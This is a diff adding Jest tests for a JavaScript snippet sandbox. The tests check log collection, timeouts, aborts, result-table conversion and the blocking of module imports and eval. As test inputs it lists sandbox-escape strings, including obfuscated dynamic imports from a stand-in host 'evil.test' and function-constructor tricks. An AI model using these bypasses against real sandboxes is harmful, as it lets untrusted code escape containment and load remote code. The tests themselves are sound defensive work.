@@ -0,0 +1,72 @@
+import vm from 'vm';
+import { compileSandboxed, findForbiddenSyntax, runInSandbox, toResultTable } from './sandbox';
+import { fakeWorkerFactory } from '../testing/fakeWorker';
+
+afterEach(() => { jest.useRealTimers(); });
+
+test('collects console output and the returned result, then terminates the worker', async () => {
+    const { workers, createWorker } = fakeWorkerFactory();
+    const run = runInSandbox('return tables.length', { tables: [{ name: 't' }], createWorker });
+    expect(workers[0].messages).toEqual([{ code: 'return tables.length', tables: [{ name: 't' }] }]);
+    workers[0].reply({ type: 'log', entry: { level: 'log', text: 'checking' } });
+    workers[0].reply({ type: 'done', ok: true, result: 1 });
+    await expect(run).resolves.toMatchObject({ ok: true, result: 1, logs: [{ level: 'log', text: 'checking' }] });
+    expect(workers[0].terminated).toBe(true);
+});
+
+test('reports errors and stops runaway code at the time limit', async () => {
+    const { workers, createWorker } = fakeWorkerFactory();
+    const failing = runInSandbox('boom()', { createWorker });
+    workers[0].reply({ type: 'done', ok: false, error: 'ReferenceError: boom is not defined' });
+    await expect(failing).resolves.toMatchObject({ ok: false, error: 'ReferenceError: boom is not defined' });
+
+    jest.useFakeTimers();
+    const looping = runInSandbox('while (true) {}', { createWorker, timeoutMs: 1000 });
+    workers[1].reply({ type: 'log', entry: { level: 'log', text: 'started' } });
+    jest.advanceTimersByTime(1000);
+    await expect(looping).resolves.toMatchObject({ ok: false, timedOut: true, error: 'Timed out after 1s.', logs: [{ level: 'log', text: 'started' }] });
+    expect(workers[1].terminated).toBe(true);
+});
+
+test('rejects module imports without starting a worker and honours abort', async () => {
+    const { workers, createWorker } = fakeWorkerFactory();
+    expect(findForbiddenSyntax("const m = await import('https://evil.test/x.js')")).toMatch('not allowed');
+    expect(findForbiddenSyntax('const m = await import/**/("https://evil.test/x.js")')).toMatch('not allowed');
+    expect(findForbiddenSyntax('const important = 1; return important;')).toBeNull();
+    await expect(runInSandbox("import x from 'y'", { createWorker })).resolves.toMatchObject({ ok: false, error: 'Importing modules is not allowed in the sandbox.' });
+    expect(workers).toHaveLength(0);
+
+    const controller = new AbortController();
+    const run = runInSandbox('return 1', { createWorker, signal: controller.signal });
+    controller.abort();
+    await expect(run).rejects.toMatchObject({ name: 'AbortError' });
+    expect(workers[0].terminated).toBe(true);
+});
+
+// A fresh realm stands in for the worker's global object, so locking it down leaves the test's own intact.
+const workerScope = () => vm.runInContext('this', vm.createContext({}));
+
+test('takes eval and the function constructors away before the snippet runs', async () => {
+    const bypasses = [
+        `return (0, eval)('imp' + 'ort("https://evil.test/x.js")')`,
+        `return Function('return imp' + 'ort("https://evil.test/x.js")')()`,
+        "return new Function('return 1')()",
+        "return (() => {}).constructor('return 1')()",
+        "return (async () => {}).constructor('return 1')()",
+        "return (function* () {}).constructor('yield 1')().next()",
+        "return Object.getPrototypeOf(async function* () {}).constructor('yield 1')",
+    ];
+    for (const code of bypasses) {
+        await expect(compileSandboxed(code, workerScope())([], console)).rejects.toMatchObject({ name: 'EvalError' });
+    }
+    const scope = workerScope();
+    await expect(compileSandboxed('return tables.map(t => t.name)', scope)([{ name: 'sales' }], console)).resolves.toEqual(['sales']);
+    expect(() => { scope.eval = () => 1; }).toThrow(TypeError);
+});
+
+test('turns arrays of records into result tables', () => {
+    expect(toResultTable([{ vendor: 'A', total: 3 }, { vendor: 'B', total: 5, note: 'x' }])).toEqual({ columns: ['vendor', 'total', 'note'], rows: [['A', 3, undefined], ['B', 5, 'x']] });
+    expect(toResultTable([[1, 2], [3]])).toEqual({ columns: ['1', '2'], rows: [[1, 2], [3]] });
+    expect(toResultTable(42)).toBeNull();
+    expect(toResultTable([1, 2])).toBeNull();
+});